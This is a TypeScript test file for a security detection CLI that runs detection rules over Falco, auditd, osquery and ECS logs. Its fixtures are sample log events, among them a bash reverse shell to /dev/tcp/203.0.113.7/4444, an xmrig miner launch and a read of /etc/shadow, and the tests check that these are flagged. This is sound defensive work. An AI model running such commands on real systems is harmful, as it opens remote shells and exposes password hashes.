import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Readable } from "node:stream";
import { afterAll, describe, expect, it } from "vitest";
import { cli } from "../testing-capture";
import { EventReader, readLines } from "./detect-input";

const dir = mkdtempSync(join(tmpdir(), "infrasec-detect-cli-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const root = join(import.meta.dirname, "../../../..");

const falco = (t: string, fields: Record<string, unknown>): string =>
  JSON.stringify({
    time: t,
    rule: "Spawned process",
    priority: "Notice",
    source: "syscall",
    hostname: "node-1",
    output: "spawned",
    output_fields: { "evt.type": "execve", ...fields },
  });

const reverseShell = falco("2026-11-26T10:00:00Z", {
  "proc.exepath": "/usr/bin/bash",
  "proc.cmdline": "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
  "container.id": "host",
});
const benign = falco("2026-11-26T10:00:01Z", {
  "proc.exepath": "/usr/bin/ls",
  "proc.cmdline": "ls -la",
});
const write = (name: string, text: string): string => {
  const p = join(dir, name);
  writeFileSync(p, text);
  return p;
};

const rulesDir = join(dir, "rules");
mkdirSync(join(rulesDir, "nested"), { recursive: true });
writeFileSync(
  join(rulesDir, "nested", "ls.yml"),
  `title: ls run
id: 0b9a4f59-54a5-4a71-9a2f-4f0a3c8d1e01
author: Jane Doe
level: low
logsource: {product: linux, category: process_creation}
detection:
  selection:
    Image|endswith: /ls
  condition: selection
---
title: many ls
id: 0b9a4f59-54a5-4a71-9a2f-4f0a3c8d1e02
author: Jane Doe
level: medium
correlation:
  type: event_count
  rules: [0b9a4f59-54a5-4a71-9a2f-4f0a3c8d1e01]
  group-by: [User]
  timespan: 5m
  condition: {gte: 2}
`,
);
writeFileSync(
  join(rulesDir, "broken.yaml"),
  `title: broken
id: 0b9a4f59-54a5-4a71-9a2f-4f0a3c8d1e03
level: severe
logsource: {product: linux}
detection:
  selection:
    Image|nosuchmod: x
  condition: selection
`,
);

describe("infrasec detect", () => {
  it("writes one JSON object per match with the stable contract and a JSON summary; exit 1 on matches", async () => {
    const input = write("falco.jsonl", `${reverseShell}\n${benign}\nnot json\n{"broken": \n`);
    const r = await cli(["detect", "--builtin", "--format", "json", input]);
    expect(r.code).toBe(1);
    const lines = r.out
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines).toHaveLength(1);
    expect(Object.keys(lines[0]!)).toEqual([
      "ruleId",
      "title",
      "level",
      "author",
      "eventIndex",
      "timestamp",
      "fields",
      "correlation",
    ]);
    expect(lines[0]).toMatchObject({
      title: "Bash reverse shell through /dev/tcp or /dev/udp",
      level: "high",
      author: "infrasec",
      eventIndex: 0,
      timestamp: "2026-11-26T10:00:00.000Z",
      fields: { CommandLine: "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" },
      correlation: null,
    });
    const summary = r.err
      .split("\n")
      .filter((l) => l.startsWith('{"summary"'))
      .map((l) => (JSON.parse(l) as { summary: Record<string, unknown> }).summary)[0];
    expect(summary).toMatchObject({
      inputs: 1,
      recordsRead: 4,
      eventsRead: 2,
      eventsRejected: 2,
      rejectedReasons: { "neither JSON nor an auditd record": 1, "malformed JSON": 1 },
      matches: 1,
      matchesPerRule: [expect.objectContaining({ level: "high", count: 1 })],
    });
    expect(summary!.rulesLoaded).toBeGreaterThanOrEqual(40);
    expect(summary!.eventsPerSecond).toBeGreaterThan(0);
    expect(r.err).toMatch(/error: detect: 1 match\(es\) at or above informational/);
  });

  it("exits 0 without matches, and with --fail-on above the highest matched level", async () => {
    const input = write("benign.jsonl", `${benign}\n`);
    const none = await cli(["detect", "--builtin", input]);
    expect(none.code).toBe(0);
    expect(none.out).toBe("");
    expect(none.err).toMatch(
      /detect: 1 event\(s\) from 1 record\(s\) in 1 input\(s\); 0 rejected; 0 match/,
    );
    const shell = write("shell.jsonl", `${reverseShell}\n`);
    expect((await cli(["detect", "--builtin", "--fail-on", "critical", shell])).code).toBe(0);
    expect((await cli(["detect", "--builtin", "--fail-on", "high", shell])).code).toBe(1);
    expect((await cli(["detect", "--builtin", "--fail-on", "none", shell])).code).toBe(0);
  });

  it("reports invalid rules with file and field, skips them and loads the others (folders walked recursively)", async () => {
    const input = write("two-ls.jsonl", `${benign}\n${benign.replace("10:00:01", "10:00:02")}\n`);
    const r = await cli(["detect", "--rules", rulesDir, "--format", "json", input]);
    expect(r.code).toBe(1);
    const issues = r.err
      .split("\n")
      .filter((l) => l.startsWith('{"issue"'))
      .map((l) => (JSON.parse(l) as { issue: { file: string; field: string } }).issue);
    expect(issues).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ file: expect.stringMatching(/broken\.yaml$/), field: "level" }),
      ]),
    );
    const out = r.out
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    // generate defaults to false: the referenced rule does not alert on its own (spec, correlation "generate").
    expect(out.map((m) => m.title)).toEqual(["many ls"]);
    expect(out[0]).toMatchObject({
      author: "Jane Doe",
      eventIndex: 1,
      correlation: { type: "event_count", group: { User: "" }, count: 2 },
    });
  });

  it("text output names rule, level, author and fields; the text summary lists matches per rule", async () => {
    const input = write("shell2.jsonl", `${reverseShell}\n`);
    const r = await cli(["detect", "--builtin", input]);
    expect(r.out).toMatch(
      /^2026-11-26T10:00:00.000Z {2}high {10}Bash reverse shell through \/dev\/tcp or \/dev\/udp \[[0-9a-f-]{36}\] by infrasec {2}event #0 {2}CommandLine=bash -c/,
    );
    expect(r.err).toMatch(/matches per rule:\n +1 {2}high/);
  });

  it("reads raw auditd logs and generic ECS JSON, with --input forcing the format", async () => {
    const audit = write(
      "audit.log",
      [
        'type=SYSCALL msg=audit(1764151201.000:11): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=901 auid=0 uid=0 comm="xmrig" exe="/usr/bin/xmrig" key="exec"',
        'type=EXECVE msg=audit(1764151201.000:11): argc=1 a0="xmrig"',
        "type=EOE msg=audit(1764151201.000:11): ",
      ].join("\n"),
    );
    const r = await cli(["detect", "--builtin", "--input", "auditd", "--format", "json", audit]);
    expect(
      r.out
        .trim()
        .split("\n")
        .map((l) => (JSON.parse(l) as { title: string }).title),
    ).toEqual(["Known cryptocurrency miner executed"]);
    const ecs = write(
      "ecs.jsonl",
      `${JSON.stringify({ "@timestamp": "2026-11-26T10:00:00Z", event: { category: ["process"] }, process: { executable: "/usr/bin/cat", command_line: "cat /etc/shadow" } })}\n`,
    );
    const e = await cli(["detect", "--builtin", "--input", "json", "--format", "json", ecs]);
    expect(JSON.parse(e.out)).toMatchObject({
      title: "Shadow password file read by a generic tool",
      fields: { Image: "/usr/bin/cat" },
    });
  });

  it("rejects usage errors with exit 2", async () => {
    const input = write("u.jsonl", `${benign}\n`);
    expect((await cli(["detect", input])).code).toBe(2); // no rules
    expect((await cli(["detect", "--builtin", "--input", "xml", input])).code).toBe(2);
    expect((await cli(["detect", "--builtin", "--format", "csv", input])).code).toBe(2);
    expect((await cli(["detect", "--builtin", "--fail-on", "severe", input])).code).toBe(2);
    expect((await cli(["detect", "--rules", join(dir, "missing"), input])).code).toBe(2);
    expect((await cli(["detect", "--builtin", join(dir, "missing.jsonl")])).code).toBe(2);
    expect((await cli(["detect", "--builtin"])).code).toBe(2);
  });

  it("reads standard input with - (real process)", () => {
    const r = spawnSync(
      process.execPath,
      [
        "--import",
        "tsx",
        join(root, "packages/cli/src/main.ts"),
        "detect",
        "--builtin",
        "--format",
        "json",
        "-",
      ],
      { input: `${reverseShell}\n${benign}\n`, encoding: "utf8", cwd: root },
    );
    expect(r.status).toBe(1);
    expect(JSON.parse(r.stdout.trim())).toMatchObject({ level: "high", eventIndex: 0 });
    expect(r.stderr).toContain('"eventsRead":2');
  });
});

describe("detect input", () => {
  it("bounds memory on oversized lines and keeps the lines around them", async () => {
    const big = "x".repeat(5000);
    const chunks = ["a\n", big.slice(0, 2500), big.slice(2500), "\nb\r\n", "c"];
    const out = [];
    for await (const l of readLines(Readable.from(chunks), 1000)) out.push(l);
    expect(out).toEqual([{ text: "a" }, { oversized: true }, { text: "b" }, { text: "c" }]);
  });

  it("sniffs Falco, osquery, auditd and generic JSON in auto mode", () => {
    const reader = new EventReader("auto");
    const sources = [
      reverseShell,
      JSON.stringify({
        name: "process_events",
        action: "added",
        counter: 2,
        hostIdentifier: "h",
        unixTime: 1,
        columns: { path: "/bin/ls", cmdline: "ls" },
      }),
      JSON.stringify({
        logsource: { product: "linux", category: "process_creation" },
        fields: { Image: "/bin/ls" },
        timestamp: 1,
      }),
    ].map((l) => reader.read(l));
    expect(sources.map((r) => (r.ok ? r.events[0]?.source : r.reason))).toEqual([
      "falco",
      "osquery",
      "generic",
    ]);
    expect(reader.read("type=EOE msg=audit(1.000:1): ").ok).toBe(true);
    expect(reader.read("[1,2]")).toEqual({
      ok: false,
      reason: "neither JSON nor an auditd record",
    });
  });
});

// The CLI bundle must carry the built-in pack (embedded as strings, no files next to the bundle).
// Built like scripts/build-cli.mjs (workspace packages bundled, third-party external) into dist/
// under a unique name so node_modules resolve and the real bundle is left alone.
describe("bundle", () => {
  it("the esbuild bundle of the CLI runs detect --builtin", { timeout: 60_000 }, async () => {
    const { build } = await import("esbuild");
    const external = new Set<string>();
    for (const pkg of readdirSync(join(root, "packages"))) {
      const json = JSON.parse(
        readFileSync(join(root, "packages", pkg, "package.json"), "utf8"),
      ) as {
        dependencies?: Record<string, string>;
        peerDependencies?: Record<string, string>;
      };
      for (const d of Object.keys({ ...json.dependencies, ...json.peerDependencies }))
        if (!d.startsWith("@infrasec/")) external.add(d);
    }
    const out = join(root, "packages/cli/dist", `detect-bundle-test-${process.pid}.mjs`);
    try {
      await build({
        entryPoints: [join(root, "packages/cli/src/main.ts")],
        outfile: out,
        bundle: true,
        platform: "node",
        format: "esm",
        target: "node20",
        external: [...external].flatMap((d) => [d, `${d}/*`]),
        logLevel: "error",
      });
      const r = spawnSync(process.execPath, [out, "detect", "--builtin", "--format", "json", "-"], {
        input: `${reverseShell}\n`,
        encoding: "utf8",
        cwd: dir,
      });
      expect(r.status).toBe(1);
      expect(JSON.parse(r.stdout.trim())).toMatchObject({ author: "infrasec", level: "high" });
      expect(r.stderr).toMatch(/"rulesLoaded":\d{2}/);
    } finally {
      rmSync(out, { force: true });
      rmSync(`${out}.map`, { force: true });
    }
  });
});
